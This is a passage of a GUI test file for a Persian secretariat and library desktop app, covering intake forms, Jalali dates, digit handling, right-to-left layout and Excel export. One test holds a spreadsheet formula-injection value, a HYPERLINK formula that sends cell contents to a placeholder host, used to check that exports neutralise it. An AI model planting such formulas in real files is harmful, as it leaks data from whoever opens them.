    page.date_from.set_value(date(2025, 5, 1))  # after the upper bound: said, not searched
    assert page.count.text() == "بازه تاریخ وارونه است: «دریافت از» پس از «تا» است."
    page.date_to.set_value(DAY + timedelta(days=1))
    assert page.model.total == 1
    page.grab().save(str(tmp_path / "search-dates.png"))


def test_a_known_national_id_fills_the_empty_fields_and_says_so(qtbot: Any, desk: Desk, tmp_path: Path,
                                                                type_persian: Any) -> None:
    sec.intake(desk.store, desk.clerk, case_input(5, address="کوچه 12، پلاک 3"), on=DAY)
    page = _intake(qtbot, desk, tmp_path)
    type_persian(page.last_name, "کریمی‌نژاد")  # typed before the ID: kept
    qtbot.keyClicks(page.national_id, case_input(5).national_id)
    qtbot.keyClick(page.national_id, Qt.Key.Key_Tab)  # leaving the field
    assert (page.first_name.text(), page.last_name.text()) == ("زهرا", "کریمی‌نژاد")
    assert page.mobile.text() == "09121234567" and page.address.text() == "کوچه ۱۲، پلاک ۳"  # as typed in a phone field
    note = page.known.text()
    assert page.known.isVisible() and note.startswith("متقاضی شناخته‌شده: زهرا کریمی.")
    assert "نام، شماره همراه، نشانی از پرونده پیشین او پر شد" in note
    page.grab().save(str(tmp_path / "intake-known.png"))
    page.national_id.setText(national_id(999))  # another, unknown person: the filled values go
    page.national_id.editingFinished.emit()
    assert (page.first_name.text(), page.mobile.text(), page.address.text()) == ("", "", "")
    assert page.last_name.text() == "کریمی‌نژاد" and not page.known.isVisible()
    page.national_id.setText(case_input(5).national_id)
    page.national_id.editingFinished.emit()
    type_persian(page.subject, "آب گرفتگی معبر")
    qtbot.keyClick(page.subject, Qt.Key.Key_Return)  # her earlier case is shown first
    assert page.receipt is None and page.confirm.isVisible()
    qtbot.keyClick(page.subject, Qt.Key.Key_Return)
    assert page.receipt is not None and page.receipt.applicant_name == "زهرا کریمی‌نژاد"
    assert not page.known.isVisible() and page.first_name.text() == ""
    known = q.find_applicant(desk.store, desk.clerk, case_input(5).national_id)
    assert known is not None and known.last_name == "کریمی‌نژاد"  # the record took the correction
    assert q.find_applicant(desk.store, desk.clerk, "123") is None


def test_enter_on_a_known_national_id_fills_the_form_and_goes_on_instead_of_saving(
        qtbot: Any, desk: Desk, tmp_path: Path, type_persian: Any) -> None:
    sec.intake(desk.store, desk.clerk, case_input(5), on=date(2024, 12, 1))  # met before, long ago
    page = _intake(qtbot, desk, tmp_path)
    page.activateWindow()
    qtbot.waitUntil(page.isActiveWindow)
    page.national_id.setFocus()
    qtbot.keyClicks(page.national_id, case_input(5).national_id)
    qtbot.keyClick(page.national_id, Qt.Key.Key_Return)
    assert page.receipt is None and page.form.error_of("first_name") == ""  # nothing saved, nothing refused
    assert (page.first_name.text(), page.last_name.text(), page.mobile.text()) == ("زهرا", "کریمی", "09121234567")
    assert page.subject.hasFocus()  # the first field still empty
    type_persian(page.subject, "خرابی آسفالت")
    qtbot.keyClick(page.subject, Qt.Key.Key_Return)
    assert page.receipt is not None and page.receipt.applicant_name == "زهرا کریمی"
    qtbot.keyClicks(page.national_id, national_id(31))  # someone new: the name is the next to type
    qtbot.keyClick(page.national_id, Qt.Key.Key_Return)
    assert page.receipt.applicant_name == "زهرا کریمی" and page.first_name.hasFocus()
    page.national_id.setFocus()
    page.national_id.setText("1234567890")  # a wrong ID keeps the focus, the error under it
    qtbot.keyClick(page.national_id, Qt.Key.Key_Return)
    assert page.national_id.hasFocus() and "کد ملی" in page.form.error_of("national_id")


def test_persian_text_reads_persian_digits_in_the_cartable_timeline_and_duplicate_hint(
        qtbot: Any, desk: Desk, tmp_path: Path) -> None:
    r = sec.intake(desk.store, desk.clerk, case_input(8, subject="قطعی برق کوچه 12"), on=DAY)
    sec.review(desk.store, desk.expert, r.case_id, accept=True, on=DAY)
    sec.register(desk.store, desk.clerk, r.case_id, on=DAY)
    sec.refer(desk.store, desk.expert, r.case_id, desk.manager.user_id, instruction="تا 3 روز پاسخ دهید", on=DAY)
    page = CartablePage(make_ctx(desk.store, desk.manager, tmp_path))
    qtbot.addWidget(page)
    assert page.model.index(0, 2).data() == "قطعی برق کوچه ۱۲"
    assert page.model.index(0, 5).data() == "تا ۳ روز پاسخ دهید"
    page.open_row(0)
    timeline = page.view.timeline.model()
    said = [visible(timeline.index(i, 4).data()) for i in range(timeline.rowCount())]
    assert any("«تا ۳ روز پاسخ دهید»" in text for text in said)
    intake = _intake(qtbot, desk, tmp_path)
    intake.national_id.setText(case_input(8).national_id)
    intake.refresh_duplicates()
    assert "قطعی برق کوچه ۱۲" in label_plain(intake.duplicates) and "12" not in label_plain(intake.duplicates).split("(")[0]


def test_tab_in_the_request_text_goes_on_to_the_next_field(qtbot: Any, desk: Desk, tmp_path: Path,
                                                           type_persian: Any) -> None:
    page = _intake(qtbot, desk, tmp_path)
    page.activateWindow()
    qtbot.waitUntil(page.isActiveWindow)
    page.text.setFocus()
    type_persian(page.text, "برق محله قطع است")
    qtbot.keyClick(page.text, Qt.Key.Key_Tab)
    assert page.text.toPlainText() == "برق محله قطع است" and not page.text.hasFocus()


def test_the_report_follows_the_period_chosen_and_exports_what_is_shown(qtbot: Any, desk: Desk,
                                                                       tmp_path: Path) -> None:
    from openpyxl import load_workbook

    _referred(desk, 1)  # received in Ordibehesht 1404
    page = ReportsPage(make_ctx(desk.store, desk.manager, tmp_path))
    qtbot.addWidget(page)
    page.kind.setCurrentIndex(page.kind.findData("year"))
    page.year.setValue(1404)  # nothing else: no «نمایش»
    assert page.report is not None and page.report.period.title == "سال ۱۴۰۴" and page.report.received == 1
    assert "سال ۱۴۰۴" in page.figures.toPlainText()
    wb = load_workbook(page.export_excel(tmp_path / "r.xlsx"))
    assert wb.active["A1"].value == "گزارش سال ۱۴۰۴" and wb.active["B2"].value == 1
    # the period in Jalali days (it was two Gregorian ISO dates), and the day the report was made
    made = persian.format_jalali_date(page.today())
    assert [wb.active["B1"].value, wb.active["C1"].value] == ["از ۱۴۰۴/۰۱/۰۱ تا ۱۴۰۴/۱۲/۲۹", f"تهیه‌شده در {made}"]
    page.kind.setCurrentIndex(page.kind.findData("month"))
    page.number.setCurrentIndex(2)  # Khordad: nothing received
    assert page.report.period.title == "خرداد ۱۴۰۴" and page.report.received == 0
    wb = load_workbook(page.export_excel(tmp_path / "r2.xlsx"))
    assert wb.active["A1"].value == "گزارش خرداد ۱۴۰۴"


def test_the_charts_month_labels_are_whole() -> None:
    from PySide6.QtCharts import QBarCategoryAxis

    from kanoon_desk.services.secretariat_reports import Report, period
    from kanoon_desk.ui.secretariat.reports import build_chart

    rep = Report(period("year", 1404))
    rep.by_month = [((1404, m), 3, 2) for m in range(1, 13)]
    chart = build_chart(rep)
    [axis] = [a for a in chart.axes() if isinstance(a, QBarCategoryAxis)]
    assert axis.categories()[-1] == "فروردین" and "اردیبهشت" in axis.categories()  # the year is in the title
    assert axis.labelsAngle() == -90  # twelve side by side were cut to «اردی…»


def test_the_charts_read_from_the_interfaces_start_side(qapp: Any, tmp_path: Path) -> None:
    """Qt's charts do not mirror themselves: in Persian the first month, the first age group and
    the bars' base are on the right; in English on the left, with Latin digits."""
    from PySide6.QtCharts import QBarCategoryAxis, QValueAxis

    from kanoon_desk.services import library_reports as lrep
    from kanoon_desk.services.secretariat_reports import Report, period
    from kanoon_desk.ui.library.reports import age_chart, popular_chart
    from kanoon_desk.ui.secretariat.reports import build_chart
    from tests.ui.shell_support import compile_english

    rep = Report(period("season", 1404, 1))
    rep.by_month = [((1404, 1), 3, 2), ((1404, 2), 4, 1), ((1404, 3), 1, 1)]
    ages = [lrep.Count("a", "الف", 5), lrep.Count("b", "ب", 3)]
    popular = [lrep.Count("t1", "ماهی سیاه کوچولو", 7), lrep.Count("t2", "کلاغ‌ها", 2)]

    def sides() -> tuple[list[str], list[str], bool, Qt.AlignmentFlag, str]:
        by_month, by_age, chart = build_chart(rep), age_chart(ages), popular_chart(popular)  # kept alive
        [months] = [a for a in by_month.axes() if isinstance(a, QBarCategoryAxis)]
        [groups] = [a for a in by_age.axes() if isinstance(a, QBarCategoryAxis)]
        [value] = [a for a in chart.axes() if isinstance(a, QValueAxis)]
        [titles] = [a for a in chart.axes() if isinstance(a, QBarCategoryAxis)]
        return months.categories(), groups.categories(), value.isReverse(), titles.alignment(), \
            chart.locale().toString(12)

    with language(qapp, "fa"):  # the module's fixture already set Persian; said here for the reader
        assert sides() == (["خرداد", "اردیبهشت", "فروردین"], ["ب", "الف"], True, Qt.AlignmentFlag.AlignRight, "۱۲")
    with language(qapp, "en", compile_english(tmp_path)):
        assert sides() == (["Farvardin", "Ordibehesht", "Khordad"], ["A", "B"], False, Qt.AlignmentFlag.AlignLeft,
                           "12")


def test_the_list_as_filtered_goes_to_excel_whole(qtbot: Any, desk: Desk, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """«خروجی اکسل» writes every case the filters select, read past the rows on screen, in a
    right-to-left sheet with the list's columns and no direction marks in the codes."""
    from openpyxl import load_workbook

    from kanoon_desk.ui.secretariat import lists

    ids = [_referred(desk, n) for n in (1, 2, 3)]
    page = SearchPage(make_ctx(desk.store, desk.manager, tmp_path))
    qtbot.addWidget(page)
    page.date_from.set_value(None)
    page.date_to.set_value(None)
    page.status.setCurrentIndex(page.status.findData("referred"))
    assert page.model.total == 3
    monkeypatch.setattr(lists, "EXPORT_PAGE", 2)  # read in pages, as a long list is
    path = tmp_path / "cases.xlsx"
    assert page.export(path) == 3
    ws = load_workbook(path).active
    assert ws is not None and ws.sheet_view.rightToLeft
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == page.model.headers
    cases = [q.get_case(desk.store, desk.manager, i).case for i in ids]
    # the codes as other systems take them: Latin digits, no spaces (the list shows «۰۰۱۳ ۰۱۹۰ …»)
    assert {r[0] for r in rows[1:]} == {c["tracking_code"] for c in cases}
    assert {r[1] for r in rows[1:]} == {c["registration_no"] for c in cases}
    assert not any(ch in str(cell) for r in rows for cell in r for ch in "\u2066\u2069")


def test_list_counts_in_english_use_latin_digits(qapp: Any, qtbot: Any, desk: Desk, tmp_path: Path) -> None:
    from tests.ui.shell_support import compile_english

    for n in (1, 2, 3):
        _referred(desk, n)
    with language(qapp, "en", compile_english(tmp_path)):
        page = SearchPage(make_ctx(desk.store, desk.manager, tmp_path))
        qtbot.addWidget(page)
        page.date_from.set_value(None)
        page.date_to.set_value(None)
        page.status.setCurrentIndex(page.status.findData("referred"))
        assert page.count.text() == "3 cases"


def test_a_national_id_or_mobile_that_cannot_be_read_is_told_in_english(qapp: Any, qtbot: Any, desk: Desk,
                                                                        tmp_path: Path, type_persian: Any) -> None:
    """The sentences `persian` raises for what it cannot read are translated like any service's."""
    from tests.ui.shell_support import compile_english

    with language(qapp, "en", compile_english(tmp_path)):
        page = _intake(qtbot, desk, tmp_path)
        assert (page.national_id.placeholderText(), page.mobile.placeholderText()) == ("0012345678", "09121234567")
        qtbot.keyClicks(page.national_id, "1234567890")
        page.national_id.editingFinished.emit()  # checked as it is left
        assert page.form.error_of("national_id").startswith("The national ID is not valid")
        page.national_id.setText(national_id(77))
        qtbot.keyClicks(page.mobile, "0912")  # checked by the service, on saving
        for field, text in ((page.first_name, "علی"), (page.last_name, "رضایی"), (page.subject, "خرابی آسفالت")):
            type_persian(field, text)
        qtbot.keyClick(page.subject, Qt.Key.Key_Return)
        assert page.receipt is None
        assert page.form.error_of("mobile") == "The mobile number is not valid; please enter it like 09121234567."


def test_a_date_that_does_not_exist_is_told_with_its_year_in_either_language(qapp: Any, tmp_path: Path) -> None:
    """A refusal naming a value (30 Esfand of a common year) keeps its sentence translatable: the
    value is filled in after translation, in the interface's digits."""
    from kanoon_desk.errors import ValidationError
    from kanoon_desk.services.secretariat_intake import validate_input
    from kanoon_desk.ui.errors import error_text
    from tests.ui.shell_support import compile_english

    with pytest.raises(ValidationError) as caught:
        validate_input(case_input(received_date="1404/12/30"), on=date(2026, 6, 1))
    err = caught.value
    assert err.field == "received_date"
    assert str(err) == "سال ۱۴۰۴ کبیسه نیست و اسفند آن ۲۹ روز دارد؛ ۳۰ اسفند فقط در سال‌های کبیسه هست."
    assert error_text(err) == str(err)
    with language(qapp, "en", compile_english(tmp_path)):
        assert error_text(err) == "1404 is not a leap year and its Esfand has 29 days; 30 Esfand exists only in leap years."


def test_the_report_periods_are_named_in_the_interfaces_language(qapp: Any, qtbot: Any, desk: Desk,
                                                                 tmp_path: Path) -> None:
    """The period pickers, the year and the chart's title of both report pages: «پاییز», «۱۴۰۵»
    in Persian; "Autumn", "1405" in English (they were Persian in the English interface)."""
    from kanoon_desk.ui.library.reports import ReportsPage as LibraryReportsPage
    from kanoon_desk.ui.widgets import period_title
    from tests.ui.shell_support import compile_english

    def seen() -> tuple[list[str], str, str, list[str]]:
        page, lib_page = ReportsPage(make_ctx(desk.store, desk.manager, tmp_path)), \
            LibraryReportsPage(make_ctx(desk.store, desk.admin, tmp_path))
        for p in (page, lib_page):
            qtbot.addWidget(p)
            p.year.setValue(1404)
        page.kind.setCurrentIndex(page.kind.findData("season"))
        page.number.setCurrentIndex(2)
        page.refresh()
        lib_page.kind.setCurrentIndex(lib_page.kind.findData("month"))
        lib_page.number.setCurrentIndex(6)
        return ([page.number.itemText(i) for i in range(page.number.count())], page.year.text(),
                page.chart_view.chart().title(), [lib_page.number.currentText(), lib_page.bounds()[0]])

    numbers, year, title, lib_month = seen()  # the module's fixture set Persian
    assert numbers == ["بهار", "تابستان", "پاییز", "زمستان"] and year == "۱۴۰۴"
    assert title.endswith("پاییز ۱۴۰۴") and lib_month == ["۷ — مهر", "مهر ۱۴۰۴"]
    with language(qapp, "en", compile_english(tmp_path)):
        numbers, year, title, lib_month = seen()
        assert period_title("year", 1404, 0) == "Year 1404"
    assert numbers == ["Spring", "Summer", "Autumn", "Winter"] and year == "1404"
    assert title.endswith("Autumn 1404") and lib_month == ["7 — Mehr", "Mehr 1404"]


def test_the_report_is_written_in_the_interfaces_language(qapp: Any, qtbot: Any, desk: Desk,
                                                          tmp_path: Path) -> None:
    """On screen, on paper and in the sheet: English words, Latin digits, left to right in the
    English interface (the report stayed Persian there); the Persian one as it was."""
    from openpyxl import load_workbook

    from tests.ui.shell_support import compile_english

    _referred(desk, 1)  # received in Ordibehesht 1404
    with language(qapp, "en", compile_english(tmp_path)):
        page = ReportsPage(make_ctx(desk.store, desk.manager, tmp_path))
        qtbot.addWidget(page)
        page.kind.setCurrentIndex(page.kind.findData("year"))
        page.year.setValue(1404)
        html, shown = page.html(), page.figures.toPlainText()
        wb = load_workbook(page.export_excel(tmp_path / "r.xlsx"))
    assert "Report on requests and complaints — Year 1404" in html and '<body dir="ltr">' in html
    assert "from 1404/01/01 to 1404/12/29" in html and "<th>Figure</th><th>Value</th>" in html
    assert '<td align="left">Received</td><td align="left">1</td>' in html and "Ordibehesht 1404" in html
    assert "Year 1404" in shown and not re.search("[۰-۹]", html)
    assert wb.sheetnames == ["Figures", "Agencies late", "Agencies answering", "Monthly"]
    ws = wb["Figures"]
    assert not ws.sheet_view.rightToLeft and [ws["A1"].value, ws["B1"].value] == ["Report Year 1404",
                                                                                "from 1404/01/01 to 1404/12/29"]
    assert re.fullmatch(r"made on 14\d\d/\d\d/\d\d", ws["C1"].value) and [ws["A2"].value, ws["B2"].value] == ["Received", 1]
    monthly = wb["Monthly"]  # the year's every month, the quiet ones' zeros too
    assert [monthly[f"A{i}"].value for i in (2, 3, 13)] == ["Farvardin 1404", "Ordibehesht 1404", "Esfand 1404"]
    assert [monthly["B2"].value, monthly["B3"].value] == [0, 1]
    page = ReportsPage(make_ctx(desk.store, desk.manager, tmp_path))  # Persian again
    qtbot.addWidget(page)
    page.kind.setCurrentIndex(page.kind.findData("year"))
    page.year.setValue(1404)
    html = page.html()
    assert "گزارش رسیدگی به درخواست‌ها و شکایات — سال ۱۴۰۴" in html and '<body dir="rtl">' in html
    assert '<td align="right">۱</td><td align="right">دریافت‌شده</td>' in html and "اردیبهشت ۱۴۰۴" in html


def test_an_export_that_cannot_be_written_is_said_not_raised(qtbot: Any, desk: Desk, tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """A folder (or, on Windows, a file open in Excel) where the export was to go: a message says
    so and what to do (it was the crash dialog); a written one says where it is."""
    from PySide6.QtWidgets import QFileDialog, QMessageBox

    page = ReportsPage(make_ctx(desk.store, desk.manager, tmp_path))
    qtbot.addWidget(page)
    taken = tmp_path / "taken.xlsx"
    taken.mkdir()
    monkeypatch.setattr(QFileDialog, "getSaveFileName", lambda *_a, **_k: (str(taken), ""))
    qtbot.mouseClick(page.excel, Qt.MouseButton.LeftButton)
    assert page.export_pdf(taken) is None
    boxes = page.findChildren(QMessageBox, "saved-message")
    assert [b.icon() for b in boxes] == [QMessageBox.Icon.Warning] * 2
    assert all(str(taken) in b.text() and "پرونده باز است یا اجازه نوشتن در آن‌جا نیست" in b.text() for b in boxes)
    for b in boxes:
        b.close()
    assert page.export_excel(tmp_path / "r.xlsx") == tmp_path / "r.xlsx"
    [saved] = [b for b in page.findChildren(QMessageBox, "saved-message") if b.isVisible()]
    assert saved.icon() == QMessageBox.Icon.Information and f"پرونده در \u2066{tmp_path / 'r.xlsx'}\u2069 ذخیره شد." == saved.text()
    search = SearchPage(make_ctx(desk.store, desk.clerk, tmp_path))  # the case list's «خروجی اکسل» too
    qtbot.addWidget(search)
    search.export_dialog()
    assert [b.icon() for b in search.findChildren(QMessageBox, "saved-message")] == [QMessageBox.Icon.Warning]


def test_a_cleared_search_box_lists_again_by_the_other_filters(qtbot: Any, desk: Desk, tmp_path: Path) -> None:
    r = sec.intake(desk.store, desk.clerk, case_input(41), on=DAY)
    sec.intake(desk.store, desk.clerk, case_input(42), on=DAY)
    page = SearchPage(make_ctx(desk.store, desk.clerk, tmp_path))
    qtbot.addWidget(page)
    assert page.text.isClearButtonEnabled() and page.model.total == 2
    qtbot.keyClicks(page.text, r.tracking_code)
    qtbot.keyClick(page.text, Qt.Key.Key_Return)
    assert page.model.total == 1
    page.text.clear()  # its ⨯: no Enter needed
    assert page.model.total == 2


def test_a_click_opens_its_case_once_and_a_click_on_the_open_case_reads_it_again(
        qtbot: Any, desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for n in (51, 52):
        sec.intake(desk.store, desk.clerk, case_input(n), on=DAY)
    page = SearchPage(make_ctx(desk.store, desk.clerk, tmp_path))
    qtbot.addWidget(page)
    page.resize(1100, 800)
    page.show()
    qtbot.waitExposed(page)
    loads: list[str] = []
    real = page.view.load
    monkeypatch.setattr(page.view, "load", lambda case_id: loads.append(case_id) or real(case_id))

    def click(row: int) -> None:
        rect = page.table.visualRect(page.model.index(row, 3))
        qtbot.mouseClick(page.table.viewport(), Qt.MouseButton.LeftButton, pos=rect.center())

    click(1)
    assert loads == [page.model.row_at(1).id] and page.view.case_id == loads[0]  # once, not twice
    click(1)  # the case shown: read again (a sync may have brought something)
    assert loads == [page.model.row_at(1).id] * 2


def test_scans_dragged_from_a_folder_join_the_intake_and_the_case(qtbot: Any, desk: Desk, tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch,
                                                                type_persian: Any) -> None:
    from kanoon_desk.ui.secretariat.case_view import ActionDialog, CaseView
    from tests.secretariat_helpers import PDF_BYTES, PNG_BYTES

    first, second = tmp_path / "نامه.pdf", tmp_path / "کارت ملی.png"
    first.write_bytes(PDF_BYTES)
    second.write_bytes(PNG_BYTES)
    page = _intake(qtbot, desk, tmp_path)
    assert not drop_files(page.file_list, tmp_path, "https://example.org/scan.pdf")  # a folder, a web page: no
    assert drop_files(page.file_list, first, second, tmp_path)
    assert drop_files(page.file_list, first)  # again: not twice
    assert page.files == [first, second] and page.file_list.count() == 2
    qtbot.keyClicks(page.national_id, national_id(41))
    type_persian(page.first_name, "مریم")
    type_persian(page.last_name, "احمدی")
    type_persian(page.subject, "خرابی آسفالت معبر")
    qtbot.keyClick(page.subject, Qt.Key.Key_Return)
    assert page.receipt is not None and page.receipt.attachments == 2
    # a document brought later, dropped on the case's attachments: its dialog, the file chosen
    case_id = _referred(desk, 2)
    view = CaseView(make_ctx(desk.store, desk.expert, tmp_path), case_id)
    qtbot.addWidget(view)
    chosen: list[str] = []

    def fake_exec(dlg: ActionDialog) -> int:
        chosen.append(dlg.values()["attachments"])
        dlg.submit()
        return int(dlg.result())

    monkeypatch.setattr(ActionDialog, "exec", fake_exec)
    assert drop_files(view.attachments, second)
    assert chosen == [str(second)]
    assert [a["filename"] for a in q.get_case(desk.store, desk.expert, case_id).attachments] == ["کارت ملی.png"]
    assert view.attachments.count() == 1


def test_the_request_text_and_an_actions_note_read_from_the_right(qtbot: Any, desk: Desk, tmp_path: Path) -> None:
    """The request's text typed at intake (and a note in an action's dialog) stood flush left in
    its box, as if English: a QPlainTextEdit takes no direction from its text. Persian lines stand
    on the right, as they are read and printed."""
    from kanoon_desk.ui.secretariat.dialogs import ActionDialog

    from .shell_support import ink_span

    page = _intake(qtbot, desk, tmp_path)
    dialog = ActionDialog(page, "یادداشت", lambda values: None)
    qtbot.addWidget(dialog)
    note = dialog.text("note", "یادداشت")
    dialog.resize(500, 300)
    dialog.show()
    for box in (page.text, note):
        box.setPlainText("برق محله ما هر شب قطع می‌شود")
        box.clearFocus()  # no cursor drawn
        qtbot.wait(10)
        viewport = box.viewport()
        left, right = ink_span(viewport)
        assert right > viewport.width() - 40 and left > viewport.width() / 3, box


def test_reports_page_builds_the_report_off_the_gui_thread(qtbot: Any, desk: Desk, tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """A year of a busy province's cases took ~20 s to count: built on the GUI thread, the window
    froze as the page opened. It is built in the background; the page says so meanwhile and its
    exports wait for it."""
    import threading

    from PySide6.QtCore import QSettings

    from kanoon_desk.ui import secretariat
    from kanoon_desk.ui.context import ChangeBus, UiContext
    from kanoon_desk.ui.tasks import TaskRunner

    _referred(desk, 1)
    real = secretariat.reports.build_report
    threads: list[threading.Thread] = []
    release = threading.Event()

    def slow_build(*args: Any, **kwargs: Any) -> Any:
        threads.append(threading.current_thread())
        release.wait(10)
        return real(*args, **kwargs)

    monkeypatch.setattr(secretariat.reports, "build_report", slow_build)
    settings = QSettings(str(tmp_path / "s.ini"), QSettings.Format.IniFormat)
    tasks = TaskRunner()
    page = ReportsPage(UiContext(desk.store, desk.manager, ChangeBus(), tasks, settings))
    qtbot.addWidget(page)
    page.show()
    # the page is on screen before the report is built, saying it is being built
    assert page.report is None
    assert page.busy.isVisible() and not page.excel.isEnabled() and not page.pdf.isEnabled()
    release.set()
    qtbot.waitUntil(lambda: page.report is not None)
    assert threads and all(t is not threading.main_thread() for t in threads)
    assert not page.busy.isVisible() and page.excel.isEnabled() and page.pdf.isEnabled()
    assert "۱" in page.figures.toPlainText()
    tasks.wait()


def test_a_subject_typed_as_a_formula_goes_to_excel_as_the_words_typed(qtbot: Any, desk: Desk,
                                                                       tmp_path: Path) -> None:
    """A citizen's complaint subject «=HYPERLINK(…)» exported from the search list became a live
    link in the clerk's Excel (openpyxl writes text starting with «=» as a formula). It is now
    text; the sheet's heading row is bold and stays in view, and the columns are wide enough to
    read the codes and dates (Excel's default cut them to «####»)."""
    from openpyxl import load_workbook

    subject = '=HYPERLINK("http://x.example/?q="&A1,"پیوست شکایت")'
    r = sec.intake(desk.store, desk.clerk, case_input(1, subject=subject), on=DAY)
    page = SearchPage(make_ctx(desk.store, desk.manager, tmp_path))
    qtbot.addWidget(page)
    page.date_from.set_value(None)
    page.date_to.set_value(None)
    assert page.model.total == 1
    path = tmp_path / "cases.xlsx"
    assert page.export(path) == 1
    ws = load_workbook(path).active
    assert ws is not None
    [cell] = [c for row in ws.iter_rows(min_row=2) for c in row if "HYPERLINK" in str(c.value)]
    assert cell.data_type == "s" and cell.value == q.get_case(desk.store, desk.manager, r.case_id).case["subject"]
    assert all(c.font.b for c in ws[1]) and ws.freeze_panes == "A2"
    for column in ws.iter_cols():
        longest = max(len(str(c.value)) for c in column if c.value is not None)
        assert (ws.column_dimensions[column[0].column_letter].width or 0) >= min(longest, 60)


def _drawn_x(edit: Any, position: int) -> int:
    """Where a line edit draws its cursor standing before character `position`."""
    edit.setCursorPosition(position)
    return int(edit.cursorRect().center().x())


@pytest.mark.parametrize("sep", ["-", " "])
def test_a_code_typed_in_arabic_indic_digits_reads_in_order_in_the_search_box(
        qtbot: Any, desk: Desk, tmp_path: Path, type_persian: Any, sep: str) -> None:
    """An Arabic (or an old Persian Windows) keyboard types ٠١٢٣…: the bidi algorithm takes them
    for an Arabic number, and a tracking code typed so, in its groups, was drawn last group first
    («٦٣٢١-٠٨٨٩-٠١٢٤-٠٠١٣»). They become Persian digits as they are typed: the code reads as
    typed, and still finds its case."""
    r = sec.intake(desk.store, desk.clerk, case_input(9), on=DAY)
    page = SearchPage(make_ctx(desk.store, desk.clerk, tmp_path))
    qtbot.addWidget(page)
    page.resize(1000, 600)
    page.show()
    arabic = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
    typed = format_tracking_code(r.tracking_code).replace(" ", sep).translate(arabic)
    type_persian(page.text, typed)
    assert page.text.text() == persian.to_persian_digits(format_tracking_code(r.tracking_code)).replace(" ", sep)
    # the first group is drawn first (on the left), the last group last: the order it was typed in
    first, last = _drawn_x(page.text, 2), _drawn_x(page.text, len(typed) - 2)
    assert first < last, (first, last)
    qtbot.keyClick(page.text, Qt.Key.Key_Return)
    assert page.model.total == 1 and page.view.case_id == r.case_id


def test_every_search_box_takes_arabic_indic_digits_as_persian(qtbot: Any, desk: Desk, tmp_path: Path,
                                                              type_persian: Any) -> None:
    """The cartable's filter, the catalogue's and the members' search, and a scan box (a member
    number typed by hand at the circulation desk) as the search page's."""
    from kanoon_desk.ui.library.catalogue import CataloguePage
    from kanoon_desk.ui.library.members import MembersPage
    from kanoon_desk.ui.scan_box import ScanLineEdit

    ctx = make_ctx(desk.store, desk.admin, tmp_path)
    boxes = [page.search_box for page in (CartablePage(make_ctx(desk.store, desk.manager, tmp_path)),
                                          CataloguePage(ctx), MembersPage(ctx))] + [ScanLineEdit()]
    for box in boxes:
        qtbot.addWidget(box.window())
        type_persian(box, "١٣-٤٥٦")
        assert box.text() == "۱۳-۴۵۶", box
